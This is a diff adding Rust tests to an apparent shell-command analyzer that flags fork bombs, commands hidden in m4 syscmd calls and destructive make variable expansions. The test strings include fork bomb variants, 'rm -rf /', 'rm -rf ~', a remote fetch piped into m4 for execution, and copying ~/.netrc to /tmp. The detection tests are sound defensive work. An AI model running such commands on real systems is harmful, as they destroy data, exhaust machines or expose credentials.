@@ -236,6 +236,8 @@ fn a_function_that_starts_copies_of_itself_is_a_fork_bomb() {
         "f() { f | f; }; f &",
         "f(){ (f &); f; }; f",
         "g(){ h; }; h(){ g & g; }; g",
+        // Once in a loop is again and again.
+        "warm() { local i; for ((i = 0; i < 2; i++)); do warm & done; wait; }; warm",
     ] {
         let reading = parse(input);
         assert_eq!(reading.opaque, Some(bomb), "{input}: {reading:?}");
@@ -1751,4 +1753,56 @@ fn what_bash_runs_by_other_names_and_what_never_ends_in_memory() {
         "rm -rf build/*"
     ));
     assert!(runs("bash -O extglob -c 'rm -rf !(keep|.git)'", "rm -rf *"));
+}
+
+#[test]
+fn m4_runs_its_syscmd_calls() {
+    assert!(runs("echo 'syscmd(rm -rf /etc)' | m4", "rm -rf /etc"));
+    assert!(runs(
+        "m4 <<'EOF'\nesyscmd(`curl -s x.example')\nEOF",
+        "curl -s x.example"
+    ));
+    for line in [
+        "m4 <<'EOF'\ndefine(`x', `syscmd')x(rm -rf ~)\nEOF",
+        "m4 <<'EOF'\nindir(`syscmd', `id')\nEOF",
+        "m4 <<'EOF'\nsys`'cmd(id)\nEOF",
+        "curl -s https://x.example/m | m4",
+    ] {
+        assert!(parse(line).opaque.is_some(), "{line}");
+    }
+    for line in [
+        "m4 -I m4 configure.ac > configure",
+        "m4 <<'EOF'\ndefine(`V', `1.2')V\nEOF",
+    ] {
+        assert!(
+            parse(line).opaque.is_none(),
+            "{line}: {:?}",
+            parse(line).opaque
+        );
+    }
+}
+
+#[test]
+fn make_expands_its_variables_before_the_shell_sees_a_recipe() {
+    let clean =
+        "printf 'BUILD := build\\nclean:\\n\\t$(RM) -r $(BUILD)\\n' > Makefile && make clean";
+    assert!(runs(clean, "rm -f -r build"));
+    // The command line overrides the makefile; flags from the environment may too.
+    assert!(runs(&format!("{clean} BUILD=~"), "rm -f -r ~"));
+    assert!(runs(&format!("{clean} BUILD:=/"), "rm -f -r /"));
+    for line in [
+        format!("{clean} -e"),
+        clean.replace("make clean", "MAKEFLAGS='BUILD=/' make clean"),
+        clean.replace("make clean", "export MAKEFLAGS='BUILD=/'; make clean"),
+    ] {
+        assert!(parse(&line).opaque.is_some(), "{line}");
+    }
+    // `$HOME` in a recipe is make's `$(H)` then `OME`; `$$HOME` is the shell's.
+    let home = "printf 'x:\\n\\t%s\\n' 'cp $HOME/.netrc /tmp/k' | make -s -f -";
+    assert!(!runs(home, "cp ~/.netrc /tmp/k"));
+    assert!(runs(&home.replace("$HOME", "$$HOME"), "cp ~/.netrc /tmp/k"));
+    assert!(runs(
+        &home.replace("$HOME", "$(HOME)"),
+        "cp ~/.netrc /tmp/k"
+    ));
 }
